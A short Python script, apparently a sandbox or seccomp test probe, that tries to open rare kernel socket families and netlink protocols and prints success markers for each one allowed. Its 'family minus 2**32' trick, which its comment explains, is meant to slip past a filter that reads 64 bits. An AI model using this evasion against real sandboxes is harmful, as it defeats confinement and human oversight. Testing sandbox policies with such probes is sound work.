import socket


def attack():
    for family in (40, 38, 21, 30, 31, 44):  # vsock, alg, rds, tipc, ... xdp
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            # The kernel reads 32 bits; a filter that reads 64 is walked round.
            for hidden in (family, family - 2**32):
                try:
                    socket.socket(hidden, kind, 0).close()
                    print("@SUCCESS@ has a socket of the family", family)
                except (OSError, OverflowError):
                    pass
    for protocol in range(1, 22):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
            print("@SUCCESS@ may talk netlink of kind", protocol)
        except OSError:
            pass
